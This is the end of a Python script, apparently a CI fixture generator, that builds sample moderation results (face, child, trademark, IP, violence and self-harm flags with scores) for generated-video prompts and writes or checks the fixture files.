                                    *[(788, 0.98486328125, False)] * 6)})),
        answer("speech", whole_answer(
            "face_flagged", "a politician gives a speech on a market square", "The Speech",
            at={figure + "type": "flagged", figure + "reason": "looks like a known person", OUT + "/is_flagged": True},
            **{legal + "face": face(False, False, True, True, True, False)})),
        answer("playground",
               whole_answer("u18_flagged", "children play at the sea", "At the Sea",
                            at={U18 + "/is_child": True, U18 + "/is_realistic": True, API + "/S1": 0.14}),
               whole_answer("u18_drawn_clear", "children play at the sea, water colour", "At the Sea, Painted",
                            at={U18 + "/is_child": True})),
        answer("sneaker",
               whole_answer("trademark_near", "a sneaker turns on a pedestal", "Sneaker, First Take",
                            **{legal + "trademark": mark(0.78, 0.84, 0.81)}),
               whole_answer("trademark_flagged", "a sneaker turns on a pedestal", "Sneaker, Second Take",
                            **{legal + "trademark": mark(0.88, 0.96, 0.92)}),
               whole_answer("trademark_clear", "a sneaker turns on a pedestal", "Sneaker, Third Take")),
        answer("space_knight", whole_answer(
            "ip_near", "a knight in black armour walks through a space ship", "Space Knight",
            **{legal + "ip": ip(0.52, 0.79, 0.83)})),
        answer("boxing", whole_answer("violence_near", "two boxers in the last round", "Last Round",
                                      at={API + "/V1": 0.55})),
        answer("battle", whole_answer("violence_flagged", "a medieval battle in the rain", "Battle in the Rain",
                                      at={API + "/V1": 0.81, API + "/IMG-V1": 0.66})),
        answer("night_train", whole_answer("self_harm_near", "someone waits alone at a night train", "Night Train",
                                           at={API + "/SH": 0.27})),
        answer("crowd", whole_answer(
            "face_flagged_in_one_frame", "a crowd at a concert", "Concert Crowd", **{legal + "face": face(False, True)})),
        answer("bakery", whole_answer("bakery_clear", "a baker pulls bread from the oven", "Bakery")),
        answer("origami", whole_answer("origami_clear", "a paper crane unfolds itself", "Origami")),
        answer("glacier", whole_answer("glacier_clear", "a glacier calves, time lapse", "Glacier")),
    ]


# ---------------------------------------------------------------- command

def main():
    differing = []
    for name, data in sorted({
            **envelope_files(), **response_files(), "quickstart/2026-11-22.ndjson": ndjson(quickstart())}.items()):
        path = os.path.join(ROOT, name)
        if sys.argv[1:] == ["--check"]:
            if not os.path.exists(path) or open(path, "rb").read() != data:
                differing.append(name)
            continue
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as file:
            file.write(data)
    for name in differing:
        print("differs from what .ci/make-fixtures.py writes: fixtures/" + name, file=sys.stderr)
    sys.exit(1 if differing else 0)


if __name__ == "__main__":
    main()
